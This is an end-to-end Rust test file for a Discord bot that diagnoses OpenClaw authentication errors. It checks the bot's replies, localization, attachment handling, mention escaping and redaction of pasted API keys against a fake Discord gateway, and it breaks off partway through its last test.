//! End to end through a fake Discord on loopback: the real bot (serenity's client, shard
//! manager and HTTP client) connects to the fake gateway, receives INTERACTION_CREATE and
//! MESSAGE_CREATE dispatches, and the tests assert the exact callback and message payloads it
//! sends: content and embeds, ephemeral flags, `allowed_mentions`, locale. No real Discord.

mod support;

use clawmedic::app::conversation::show_in_id;
use clawmedic::app::interactions::command_definitions;
use clawmedic::app::layout::diagnosis_messages;
use clawmedic::config::BotSettings;
use clawmedic::diagnose::Msg;
use clawmedic::lang::Locale;
use clawmedic::render::{t, tr};
use clawmedic::store::testing::{FailingStore, SlowStore};
use clawmedic::store::{MemoryStore, ThreadKey};
use clawmedic::{diagnose_thread, Options};
use serde_json::{json, Value};
use std::io::Write;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;
use support::fake_discord::{APP_ID, GUILD_ID};
use support::payloads::*;
use support::{user_key, without_reply_id, Bot, TOKEN};

// ---------------------------------------------------------------------------------------------
// Pastes

/// English asker, CLI probe healthy, the chat still fails (2026.4.23): pin the working profile.
const PASTE_PIN: &str = "🦞 OpenClaw 2026.4.23 (a979721) — I'm the reason your shell history looks like a hacker-movie montage.
Re-logged in with my other account (ines) and set it as the only one in the auth order. The CLI probe is fine, but the Telegram chat still says \"Model login expired on the gateway for openai-codex\".

Auth probes
┌──────────────────────┬──────────────────────────────────────────────────────────┬─────────────────────────────────────────────┐
│ Model                │ Profile                                                  │ Status                                      │
├──────────────────────┼──────────────────────────────────────────────────────────┼─────────────────────────────────────────────┤
│ openai-codex/gpt-5.4 │ openai-codex:default (oauth)                             │ unknown · -                                 │
│                      │                                                          │ ↳ Excluded by auth.order for this provider. │
│ openai-codex/gpt-5.4 │ openai-codex:ines@example.com (ines@example.com) (oauth) │ ok · 8.4s                                   │
└──────────────────────┴──────────────────────────────────────────────────────────┴─────────────────────────────────────────────┘
Probed 2 targets in 8.4s";

const BANNER: &str = "The Discord channel keeps answering every message with this:
⚠️ Model login expired on the gateway for openai-codex. Re-auth with `openclaw models auth login --provider openai-codex`, then try again.";

const PROBE_CODEX: &str = "Auth probes
┌──────────────────────┬──────────────────────────────────────────────────────────────────┬─────────────────────────────────────────────┐
│ Model                │ Profile                                                          │ Status                                      │
├──────────────────────┼──────────────────────────────────────────────────────────────────┼─────────────────────────────────────────────┤
│ openai-codex/gpt-5.4 │ openai-codex:default (oauth)                                     │ unknown · -                                 │
│                      │                                                                  │ ↳ Excluded by auth.order for this provider. │
│ openai-codex/gpt-5.4 │ openai-codex:sam.lee@example.net (sam.lee@example.net) (oauth)   │ ok · 9.6s                                   │
└──────────────────────┴──────────────────────────────────────────────────────────────────┴─────────────────────────────────────────────┘
Probed 2 targets in 9.6s";

const ZH_TW_PROSE: &str =
    "我的 Discord 頻道一直回覆登入已過期，但是命令列的探測結果看起來正常。請問下一步應該怎麼做？";

const CHAT_STATUS: &str = "Current: openai/gpt-5.5
Default: openai/gpt-5.5
Agent: main
Auth file: ~/.openclaw/agents/main/agent/openclaw-agent.sqlite

[openai] endpoint: default api: openai-chatgpt-responses auth: openai:default=OAuth (jonas.w@example.com) (next, exp expired), openai:jonas-backup=OAuth (jonas.backup@example.com) (lastGood, exp 9d) (auth-profiles.json: ~/.openclaw/agents/main/agent/openclaw-agent.sqlite)
  • openai/gpt-5.5 (gpt)
  • openai/gpt-5.4-mini";

// ---------------------------------------------------------------------------------------------
// Helpers

fn settings(watch: bool) -> BotSettings {
    BotSettings {
        watch_enabled: watch,
        watch_cooldown: Duration::from_secs(3600),
        ..BotSettings::default()
    }
}

async fn bot() -> Bot {
    init_logs();
    Bot::start(Arc::new(MemoryStore::new()), settings(false)).await
}

fn no_mentions() -> Value {
    json!({ "parse": [] })
}

/// All text the payload would show (for "never contains" checks).
fn shown(v: &Value) -> String {
    v.to_string()
}

fn fields(msg: &Value) -> Vec<(String, String)> {
    msg["embeds"][0]["fields"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|f| {
                    (
                        f["name"].as_str().unwrap().to_string(),
                        f["value"].as_str().unwrap().to_string(),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

fn channel() -> u64 {
    use std::sync::atomic::{AtomicU64, Ordering};
    static NEXT: AtomicU64 = AtomicU64::new(1_300_000_000_000_010_000);
    NEXT.fetch_add(1, Ordering::SeqCst)
}

/// Every log line of the test process (all levels the filter lets through, serenity included).
static LOGS: Mutex<Vec<u8>> = Mutex::new(Vec::new());

struct Capture;

impl Write for Capture {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        LOGS.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn init_logs() {
    static INIT: OnceLock<()> = OnceLock::new();
    INIT.get_or_init(|| {
        use tracing_subscriber::layer::SubscriberExt;
        use tracing_subscriber::util::SubscriberInitExt;
        let filter: tracing_subscriber::filter::Targets =
            "info,clawmedic=debug,serenity=debug".parse().expect("a filter");
        let fmt = tracing_subscriber::fmt::layer().with_writer(|| Capture).with_ansi(false);
        let _ = tracing_subscriber::registry().with(fmt).with(filter).try_init();
    });
}

// ---------------------------------------------------------------------------------------------
// Tests

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn commands_are_registered_with_localized_descriptions_and_minimal_intents() {
    init_logs();
    let b = Bot::start(Arc::new(MemoryStore::new()), settings(false)).await;
    let put = b.fake.wait_for(|r| r.method == "PUT").await;
    assert_eq!(put.path, format!("/api/v10/applications/{APP_ID}/guilds/{GUILD_ID}/commands"));
    assert_eq!(put.body, command_definitions(&b.settings));
    let names: Vec<&str> =
        put.body.as_array().unwrap().iter().map(|c| c["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["diagnose", "model", "Diagnose"]);
    let diagnose = &put.body[0];
    let locales: Vec<&String> =
        diagnose["description_localizations"].as_object().unwrap().keys().collect();
    assert_eq!(locales.len(), 21);
    for code in ["en-US", "en-GB", "de", "es-ES", "es-419", "ja", "pt-BR", "zh-CN", "zh-TW", "uk"] {
        assert!(diagnose["description_localizations"][code].is_string(), "{code}");
    }
    assert_eq!(
        diagnose["description_localizations"]["zh-TW"],
        json!(t(Locale::ZhTw, "cmd-diagnose-description"))
    );
    let option_names: Vec<&str> = diagnose["options"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["name"].as_str().unwrap())
        .collect();
    assert_eq!(option_names, ["paste", "file", "version", "language"]);
    assert_eq!(diagnose["options"][1]["type"], 11);
    assert_eq!(diagnose["options"][2]["autocomplete"], true);
    assert_eq!(diagnose["options"][3]["choices"].as_array().unwrap().len(), 21);
    assert_eq!(put.body[1]["options"][1]["options"][0]["name"], "profile");
    assert_eq!(put.body[1]["options"][1]["options"][0]["required"], true);
    assert_eq!(put.body[2]["type"], 3);
    // No watch mode: no privileged intent (GUILDS only) and no watch command.
    let intents = b.fake.identify().unwrap()["intents"].as_u64().unwrap();
    assert_eq!(intents, 1);
    b.shutdown().await.unwrap();

    let b = Bot::start(Arc::new(MemoryStore::new()), settings(true)).await;
    let put = b.fake.wait_for(|r| r.method == "PUT").await;
    let watch = put
        .body
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "clawmedic-watch")
        .expect("watch command")
        .clone();
    // An integer, as Discord's OpenAPI schema says (the fake checks every body against it).
    assert_eq!(watch["default_member_permissions"], 32);
    assert_eq!(watch["contexts"], json!([0]));
    // Watch mode: GUILDS | GUILD_MESSAGES | MESSAGE_CONTENT.
    assert_eq!(b.fake.identify().unwrap()["intents"].as_u64().unwrap(), 1 | 512 | 32768);
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn diagnose_with_a_paste_replies_with_the_exact_pin() {
    let b = bot().await;
    let ch = channel();
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let cb = b.interact(env.command("diagnose", vec![opt("paste", PASTE_PIN)])).await;

    // The whole payload is the engine's diagnosis in the Discord layout…
    let report = diagnose_thread(
        &[PASTE_PIN],
        &Options { discord_locale: Some("en-US"), ..Default::default() },
    );
    let expected = diagnosis_messages(&report);
    assert_eq!(without_reply_id(&cb), json!({ "type": 4, "data": expected[0] }));
    assert!(b.fake.followups(&env.token()).is_empty());
    // …and these are its exact parts.
    let data = &cb["data"];
    assert_eq!(data["allowed_mentions"], no_mentions());
    assert!(data.get("flags").is_none(), "public reply");
    let embed = &data["embeds"][0];
    assert_eq!(embed["title"], "Most likely: The failing conversation still uses an old profile");
    assert_eq!(embed["footer"]["text"], "clawmedic · session_pin_stale · en");
    let steps = fields(data)
        .into_iter()
        .find(|(n, _)| n == "Next steps · the failing OpenClaw chat")
        .expect("chat steps");
    assert_eq!(
        steps.1,
        "**1.** Pin `openai-codex:ines@example.com` in the failing conversation, then send a normal test message.\n```\n/model openai-codex/gpt-5.4@openai-codex:ines@example.com\n```"
    );
    let evidence = fields(data).into_iter().find(|(n, _)| n == "Evidence").expect("evidence");
    assert!(evidence.1.contains("*message 1, line "), "{}", evidence.1);
    let ids: Vec<&str> = data["components"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|row| row["components"].as_array().unwrap())
        .map(|c| c["custom_id"].as_str().unwrap())
        .collect();
    // "Show in …" names the conversation (this user in this channel) and the one message read.
    assert_eq!(ids, ["cm:ok:en", "cm:fail:en", format!("cm:show:{ch}:{USER_ID}:1").as_str()]);
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn diagnose_without_input_opens_a_modal_and_the_submit_is_diagnosed() {
    let b = bot().await;
    let ch = channel();
    let env = Envelope::new(b.fake.id(), ch, "de");
    let cb = b
        .interact(env.command("diagnose", vec![opt("version", "2026.5.12"), opt("language", "en")]))
        .await;
    assert_eq!(
        cb,
        json!({ "type": 9, "data": {
            "custom_id": "cm:modal:d:en:2026.5.12",
            "title": "Paste OpenClaw output",
            "components": [{ "type": 1, "components": [{
                "type": 4, "custom_id": "paste", "style": 2, "label": "Output (mask keys and tokens)",
                "min_length": 1, "max_length": 4000, "required": true }]}]
        }})
    );
    let env = Envelope::new(b.fake.id(), ch, "de");
    let cb = b.interact(env.modal_submit("cm:modal:d:en:2026.5.12", BANNER)).await;
    assert_eq!(cb["type"], 4);
    let embed = &cb["data"]["embeds"][0];
    assert_eq!(embed["title"], "Most likely: The OAuth login has expired");
    assert!(embed["description"].as_str().unwrap().starts_with("OpenClaw 2026.5.12 (as given)."));
    assert_eq!(cb["data"]["allowed_mentions"], no_mentions());
    let shell = fields(&cb["data"])
        .into_iter()
        .find(|(n, _)| n == "Next steps · gateway host shell")
        .unwrap();
    assert!(
        shell.1.contains("```sh\nopenclaw models auth login --provider openai-codex\n```"),
        "{}",
        shell.1
    );
    b.shutdown().await.unwrap();
}

/// The `version` option takes what `openclaw --version` prints; through the modal too, and a
/// word like `latest` (never an error) is carried to the reply's note.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_version_option_reads_what_openclaw_prints() {
    let b = bot().await;
    let ch = channel();
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let cb = b
        .interact(env.command(
            "diagnose",
            vec![opt("version", "🦞 OpenClaw 2026.6.9 (c645ec4)"), opt("paste", BANNER)],
        ))
        .await;
    let description = cb["data"]["embeds"][0]["description"].as_str().unwrap().to_string();
    assert!(description.starts_with("OpenClaw 2026.6.9 (as given)."), "{description}");
    // Another thread (this one now remembers 2026.6.9).
    let ch = channel();
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let cb = b
        .interact(
            env.command("diagnose", vec![opt("version", "latest: 最新版"), opt("language", "en")]),
        )
        .await;
    let custom_id = cb["data"]["custom_id"].as_str().unwrap().to_string();
    assert_eq!(custom_id, "cm:modal:d:en:latest: 最新版");
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let cb = b.interact(env.modal_submit(&custom_id, BANNER)).await;
    let description = cb["data"]["embeds"][0]["description"].as_str().unwrap();
    assert!(description.starts_with("OpenClaw version unknown"), "{description}");
    assert!(
        description
            .contains("The version you gave, “`latest: 最新版`”, is not an OpenClaw release"),
        "{description}"
    );
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn diagnose_reads_a_txt_attachment_and_refuses_other_files() {
    let b = bot().await;
    let ch = channel();
    let url = b.fake.serve_file("1/probe.txt", "text/plain; charset=utf-8", PASTE_PIN.as_bytes());
    let att_id = b.fake.id();
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let resolved = json!({ "attachments": { att_id.to_string(): attachment(att_id, "probe.txt", "text/plain; charset=utf-8", PASTE_PIN.len() as u64, &url) } });
    let cmd = env.command_with_resolved(
        "diagnose",
        vec![json!({ "name": "file", "type": 11, "value": att_id.to_string() })],
        resolved,
    );
    let cb = b.interact(cmd).await;
    assert_eq!(cb["data"]["embeds"][0]["footer"]["text"], "clawmedic · session_pin_stale · en");
    assert!(shown(&cb).contains("/model openai-codex/gpt-5.4@openai-codex:ines@example.com"));
    // The file was fetched from the fake (loopback), once.
    assert_eq!(
        b.fake.requests().iter().filter(|r| r.path == "/attachments/1/probe.txt").count(),
        1
    );

    // A file that is neither text nor a screenshot: refused before any download, ephemeral
    // and clear.
    let gif = b.fake.serve_file("2/anim.gif", "image/gif", b"GIF89a");
    let att_id = b.fake.id();
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let resolved = json!({ "attachments": { att_id.to_string(): attachment(att_id, "anim.gif", "image/gif", 6, &gif) } });
    let cb = b
        .interact(env.command_with_resolved(
            "diagnose",
            vec![json!({ "name": "file", "type": 11, "value": att_id.to_string() })],
            resolved,
        ))
        .await;
    assert_eq!(
        cb,
        json!({ "type": 4, "data": { "content": "Only .txt, .log and .json files and PNG, JPEG or WebP screenshots can be read.", "allowed_mentions": { "parse": [] }, "flags": 64 } })
    );
    assert!(!b.fake.requests().iter().any(|r| r.path == "/attachments/2/anim.gif"));

    // Too large (declared size): refused before any download.
    let big = b.fake.serve_file("3/huge.log", "text/plain", b"x");
    let att_id = b.fake.id();
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let resolved = json!({ "attachments": { att_id.to_string(): attachment(att_id, "huge.log", "text/plain", 5_000_000, &big) } });
    let cb = b
        .interact(env.command_with_resolved(
            "diagnose",
            vec![json!({ "name": "file", "type": 11, "value": att_id.to_string() })],
            resolved,
        ))
        .await;
    assert_eq!(cb["data"]["flags"], 64);
    assert_eq!(
        cb["data"]["content"],
        "huge.log is larger than 1048576 bytes; paste only the relevant output."
    );
    assert!(!b.fake.requests().iter().any(|r| r.path == "/attachments/3/huge.log"));
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn context_menu_replies_in_the_authors_language_not_the_helpers() {
    let b = bot().await;
    let ch = channel();
    let content = format!("{ZH_TW_PROSE}\n\n{BANNER}");
    let msg = message(b.fake.id(), ch, user(USER_ID, "asker"), &content);
    // A helper with an English client runs "Diagnose" on it.
    let mut env = Envelope::new(b.fake.id(), ch, "en-US");
    env.invoker = member(HELPER_ID, "helper", MEMBER_PERMS);
    let cb = b.interact(env.context_menu(&msg)).await;
    let report = diagnose_thread(&[&content], &Options::default());
    assert_eq!(report.locale, Locale::ZhTw);
    assert_eq!(without_reply_id(&cb), json!({ "type": 4, "data": diagnosis_messages(&report)[0] }));
    let embed = &cb["data"]["embeds"][0];
    assert_eq!(embed["footer"]["text"], "clawmedic · oauth_expired · zh-TW");
    let title = tr(
        Locale::ZhTw,
        &Msg::new("reply-top-finding").arg("title", t(Locale::ZhTw, "cause-oauth_expired")),
    );
    assert_eq!(embed["title"], json!(title));
    assert!(cb["data"].get("flags").is_none(), "the reply goes to the thread");
    assert_eq!(cb["data"]["components"][0]["components"][0]["custom_id"], "cm:ok:zh-TW");
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn model_pin_builds_the_5_12_codex_pin_and_explains_the_prefix() {
    let b = bot().await;
    let env = Envelope::new(b.fake.id(), channel(), "en-US");
    let pin = subcommand(
        "pin",
        vec![
            opt("profile", "openai-codex:alice@example.com"),
            opt("model", "openai-codex/gpt-5.4"),
            opt("version", "2026.5.12"),
        ],
    );
    let cb = b.interact(env.command("model", vec![pin])).await;
    assert_eq!(
        cb,
        json!({ "type": 4, "data": {
            "allowed_mentions": { "parse": [] },
            "embeds": [{
                "type": "rich", "color": 0x5DADE2,
                "title": "The /model pin for your OpenClaw conversation",
                "description": "OpenClaw 2026.5.12 (as given).\n\nThe profile `openai-codex:alice@example.com` belongs to `openai-codex`, so on this release the model ref must start with `openai-codex/`.",
                "fields": [{
                    "name": "Next steps · the failing OpenClaw chat",
                    "value": "**1.** Pin `openai-codex:alice@example.com` in the failing conversation, then send a normal test message.\n```\n/model openai-codex/gpt-5.4@openai-codex:alice@example.com\n```",
                    "inline": false
                }],
                "footer": { "text": "clawmedic · pin · en" }
            }]
        }})
    );
    // 6.x renamed the ids: doctor first, then the openai pin.
    let env = Envelope::new(b.fake.id(), channel(), "en-US");
    let pin = subcommand(
        "pin",
        vec![
            opt("profile", "openai-codex:kim"),
            opt("model", "openai/gpt-5.5"),
            opt("version", "2026.6.9"),
        ],
    );
    let cb = b.interact(env.command("model", vec![pin])).await;
    let f = fields(&cb["data"]);
    assert_eq!(f[0].0, "Next steps · gateway host shell");
    assert!(f[0].1.ends_with("```sh\nopenclaw doctor --fix\n```"));
    assert!(f[1].1.ends_with("```\n/model openai/gpt-5.5@openai:kim\n```"));
    // A version that names no release: not an error; the pin is built for an unknown
    // version and the reply says why the version was not used.
    let env = Envelope::new(b.fake.id(), channel(), "en-US");
    let pin = subcommand("pin", vec![opt("profile", "openai:work"), opt("version", "v9")]);
    let cb = b.interact(env.command("model", vec![pin])).await;
    assert_eq!(cb["type"], 4);
    let description = cb["data"]["embeds"][0]["description"].as_str().unwrap();
    assert!(description.starts_with("OpenClaw version unknown"), "{description}");
    assert!(description.contains("The version you gave, “`v9`”, is not an OpenClaw release this build knows, so it was not used."), "{description}");
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn model_status_explains_the_active_profile_and_its_expiry() {
    let b = bot().await;
    let env = Envelope::new(b.fake.id(), channel(), "en-US");
    let cb = b
        .interact(env.command(
            "model",
            vec![subcommand("status", vec![opt("paste", CHAT_STATUS), opt("version", "2026.6.9")])],
        ))
        .await;
    let data = &cb["data"];
    assert_eq!(data["allowed_mentions"], no_mentions());
    let embed = &data["embeds"][0];
    assert_eq!(embed["title"], "Your /model status, explained");
    let desc = embed["description"].as_str().unwrap();
    let lines: Vec<&str> = desc.lines().collect();
    assert_eq!(
        lines[..5],
        [
            "The conversation you ran it in uses `openai/gpt-5.5`.",
            "The default model is `openai/gpt-5.5`.",
            "The next request to `openai` uses the profile `openai:default`.",
            "❌ `openai:default`: the login has expired.",
            "✅ `openai:jonas-backup`: signed in, valid for 9d.",
        ]
    );
    assert!(desc.contains("OpenClaw 2026.6.9 (as given)."), "{desc}");
    // What to do comes from the diagnosis (its steps are in the fields).
    assert!(!fields(data).is_empty());
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn autocomplete_offers_versions_and_the_threads_profiles_and_models() {
    let b = bot().await;
    let ch = channel();
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let cb = b.interact(env.autocomplete("diagnose", vec![focused("version", "2026.5.2")])).await;
    assert_eq!(
        cb,
        json!({ "type": 8, "data": { "choices": [
            { "name": "2026.5.28", "value": "2026.5.28" }, { "name": "2026.5.27", "value": "2026.5.27" },
            { "name": "2026.5.26", "value": "2026.5.26" }, { "name": "2026.5.22", "value": "2026.5.22" },
            { "name": "2026.5.20", "value": "2026.5.20" }, { "name": "2026.5.2", "value": "2026.5.2" }
        ]}})
    );
    // Nothing remembered yet: no profiles.
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let cb = b
        .interact(env.autocomplete("model", vec![subcommand("pin", vec![focused("profile", "")])]))
        .await;
    assert_eq!(cb, json!({ "type": 8, "data": { "choices": [] } }));
    // After a probe table in this thread, its profiles and models are offered.
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    b.interact(env.command("diagnose", vec![opt("paste", PROBE_CODEX)])).await;
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let cb = b
        .interact(
            env.autocomplete("model", vec![subcommand("pin", vec![focused("profile", "sam")])]),
        )
        .await;
    assert_eq!(
        cb,
        json!({ "type": 8, "data": { "choices": [{ "name": "openai-codex:sam.lee@example.net", "value": "openai-codex:sam.lee@example.net" }] } })
    );
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let cb = b
        .interact(env.autocomplete(
            "model",
            vec![subcommand(
                "pin",
                vec![opt("profile", "openai-codex:sam.lee@example.net"), focused("model", "")],
            )],
        ))
        .await;
    assert_eq!(
        cb,
        json!({ "type": 8, "data": { "choices": [{ "name": "openai-codex/gpt-5.4", "value": "openai-codex/gpt-5.4" }] } })
    );
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn thread_memory_combines_a_banner_and_a_probe_table() {
    let b = bot().await;
    let ch = channel();
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let first = b
        .interact(env.command("diagnose", vec![opt("paste", BANNER), opt("version", "2026.5.12")]))
        .await;
    assert_eq!(first["data"]["embeds"][0]["footer"]["text"], "clawmedic · oauth_expired · en");
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let second = b.interact(env.command("diagnose", vec![opt("paste", PROBE_CODEX)])).await;

    // Alone, the probe table looks healthy; with the banner remembered it is a stale pin.
    let alone = diagnose_thread(&[PROBE_CODEX], &Options::default());
    assert_eq!(alone.diagnosis.findings[0].cause.id(), "all_ok");
    let together = diagnose_thread(
        &[BANNER, PROBE_CODEX],
        &Options {
            openclaw_version: clawmedic::versions::Version::parse("2026.5.12"),
            ..Default::default()
        },
    );
    assert_eq!(together.diagnosis.findings[0].cause.id(), "session_pin_stale");
    let data = &second["data"];
    assert_eq!(data["embeds"][0]["footer"]["text"], "clawmedic · session_pin_stale · en");
    let evidence = fields(data).into_iter().find(|(n, _)| n == "Evidence").unwrap().1;
    assert!(
        evidence.contains("*message 1, line 2*") && evidence.contains("*message 2, line "),
        "{evidence}"
    );
    assert!(shown(&second)
        .contains("```\\n/model openai-codex/gpt-5.4@openai-codex:sam.lee@example.net\\n```"));
    // The memory holds both messages, the version and the language.
    let mem = b.store.load(&user_key(ch)).await.unwrap().unwrap();
    assert_eq!(mem.messages, 2);
    assert_eq!(mem.version.as_deref(), Some("2026.5.12"));
    assert_eq!(mem.locale.as_deref(), Some("en"));
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mentions_in_a_paste_are_escaped_and_ping_nobody() {
    let b = bot().await;
    let paste = "@everyone @here <@123> <@&456> look:\n⚠️ Model login expired on the gateway for openai-codex. Re-auth with `openclaw models auth login --provider openai-codex`, then try again. @everyone <@123>";
    let env = Envelope::new(b.fake.id(), channel(), "en-US");
    let cb = b.interact(env.command("diagnose", vec![opt("paste", paste)])).await;
    assert_eq!(cb["data"]["allowed_mentions"], no_mentions());
    let text = cb["data"]["embeds"].to_string();
    assert!(text.contains("Model login expired"), "the evidence is shown");
    for raw in ["@everyone", "@here", "<@123>", "<@&456>"] {
        assert!(!text.contains(raw), "{raw} must be defused: {text}");
    }
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pasted_api_key_is_never_echoed() {
    let b = bot().await;
    let key = "sk-proj-Q3vX9kLmN2pR7sT4uW8yZ1aB5cD6eF0gH";
    let paste = format!(
        "my env: OPENAI_API_KEY={key}\nError: 401 Incorrect API key provided: {key}. You can find your API key at https://platform.openai.com/account/api-keys."
    );
    let env = Envelope::new(b.fake.id(), channel(), "en-US");
    let cb = b.interact(env.command("diagnose", vec![opt("paste", &paste)])).await;
    let all = format!("{}{:?}", shown(&cb), b.fake.followups(&env.token()));
    assert!(!all.contains(key) && !all.contains("Q3vX9kLmN2pR7sT4"), "{all}");
    let desc = cb["data"]["embeds"][0]["description"].as_str().unwrap();
    assert!(
        desc.contains(
            "⚠️ **Your paste contained 2 secrets (API keys or tokens). They are not repeated here."
        ),
        "{desc}"
    );
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_or_slow_store_still_gets_a_stateless_reply() {
    init_logs();
    let b = Bot::start(Arc::new(FailingStore::new()), settings(false)).await;
    let env = Envelope::new(b.fake.id(), channel(), "en-US");
    let cb = b.interact(env.command("diagnose", vec![opt("paste", PASTE_PIN)])).await;
    let report = diagnose_thread(
        &[PASTE_PIN],
        &Options { discord_locale: Some("en-US"), ..Default::default() },
    );
    assert_eq!(without_reply_id(&cb), json!({ "type": 4, "data": diagnosis_messages(&report)[0] }));
    // "Show in" needs memory: with none, a clear ephemeral error in the chosen language.
    let env = Envelope::new(b.fake.id(), channel(), "en-US");
    let cb = b
        .interact(env.component("cm:show", 3, Some(vec!["en"]), &bot_message(b.fake.id(), 1)))
        .await;
    assert_eq!(cb["data"]["flags"], 64);
    assert_eq!(cb["data"]["content"], json!(t(Locale::En, "error-no-memory")));
    b.shutdown().await.unwrap();

    // A store that answers too late is not waited for.
    let slow = SlowStore::new(Arc::new(MemoryStore::new()), Duration::from_secs(30));
    let b = Bot::start(
        Arc::new(slow),
        BotSettings { store_timeout: Duration::from_millis(100), ..settings(false) },
    )
    .await;
    let env = Envelope::new(b.fake.id(), channel(), "en-US");
    let cb = b.interact(env.command("diagnose", vec![opt("paste", PASTE_PIN)])).await;
    assert_eq!(without_reply_id(&cb), json!({ "type": 4, "data": diagnosis_messages(&report)[0] }));
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn buttons_worked_still_failing_and_show_in_another_language() {
    let b = bot().await;
    let ch = channel();
    let asked = Envelope::new(b.fake.id(), ch, "en-US");
    b.interact(asked.command("diagnose", vec![opt("paste", PASTE_PIN)])).await;
    let reply = bot_message(b.fake.id(), ch);

    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let cb = b.interact(env.component("cm:ok:en", 2, None, &reply)).await;
    assert_eq!(
        cb,
        json!({ "type": 4, "data": { "content": "Thanks for confirming. Glad it works.", "allowed_mentions": { "parse": [] }, "flags": 64 } })
    );

    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let cb = b.interact(env.component("cm:fail:en", 2, None, &reply)).await;
    assert_eq!(
        cb,
        json!({ "type": 4, "data": {
            "content": "Sorry. Paste the next output here and it will be read together with the earlier messages.",
            "allowed_mentions": { "parse": [] }, "flags": 64,
            "components": [{ "type": 1, "components": [{ "type": 2, "style": 1, "label": "Paste OpenClaw output", "custom_id": "cm:paste:en" }] }]
        }})
    );
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let cb = b.interact(env.component("cm:paste:en", 2, None, &reply)).await;
    assert_eq!(cb["type"], 9);
    assert_eq!(cb["data"]["custom_id"], "cm:modal:d::");

    // A German-speaking helper reads the same diagnosis in German, just for themselves.
    let env = Envelope::new(b.fake.id(), ch, "de");
    let cb = b
        .interact(env.component(
            &show_in_id(&user_key(asked.channel_id), 1),
            3,
            Some(vec!["de"]),
            &reply,
        ))
        .await;
    let mem = b.store.load(&user_key(ch)).await.unwrap().unwrap();
    let report = clawmedic::diagnose_with_memory(
        &mem.facts,
        &[],
        &Options { lang: Some("de"), ..Default::default() },
    );
    let expected = clawmedic::app::layout::messages(
        &clawmedic::app::layout::diagnosis_reply(&report),
        &clawmedic::app::layout::Delivery { ephemeral: true, components: None },
    );
    assert_eq!(cb, json!({ "type": 4, "data": expected[0] }));
    assert_eq!(cb["data"]["flags"], 64);
    assert_eq!(cb["data"]["embeds"][0]["footer"]["text"], "clawmedic · session_pin_stale · de");
    assert!(cb["data"].get("components").is_none());
    b.shutdown().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn watch_mode_replies_once_per_thread_within_the_rate_limit() {
    init_logs();
    let b = Bot::start(Arc::new(MemoryStore::new()), settings(true)).await;
    let ch = channel();
    // Only a server manager may turn it on.
    let env = Envelope::new(b.fake.id(), ch, "en-US");
    let cb = b.interact(env.command("clawmedic-watch", vec![opt("mode", "on")])).await;
    assert_eq!(
        cb,
        json!({ "type": 4, "data": { "content": "You need the Manage Server permission to change this.", "allowed_mentions": { "parse": [] }, "flags": 64 } })
    );
    let mut env = Envelope::new(b.fake.id(), ch, "en-US");
    env.invoker = member(HELPER_ID, "admin", ADMIN_PERMS);
    let cb = b.interact(env.command("clawmedic-watch", vec![opt("mode", "on")])).await;
    assert_eq!(
        cb["data"]["content"],
        json!(format!("Watching <#{ch}>: messages with OpenClaw output get a diagnosis, at most one reply per thread every 3600 seconds."))
    );
    assert_eq!(cb["data"]["flags"], 64);

    // Chat in a watched channel: no reply. OpenClaw output: one reply, as a reply to it.
    b.fake.dispatch(
        "MESSAGE_CREATE",
        message(b.fake.id(), ch, user(USER_ID, "asker"), "hi all, anyone around?"),
    );
    let msg_id = b.fake.id();
    b.fake.dispatch("MESSAGE_CREATE", message(msg_id, ch, user(USER_ID, "asker"), BANNER));
    let path = format!("/api/v10/channels/{ch}/messages");
    let sent = b.fake.wait_for(|r| r.method == "POST" && r.path == path).await;
    let report = diagnose_thread(&[BANNER], &Options::default());
    let mut expected = diagnosis_messages(&report)[0].clone();
    expected["message_reference"] = json!({ "message_id": msg_id.to_string(), "channel_id": ch.to_string(), "fail_if_not_exists": false });
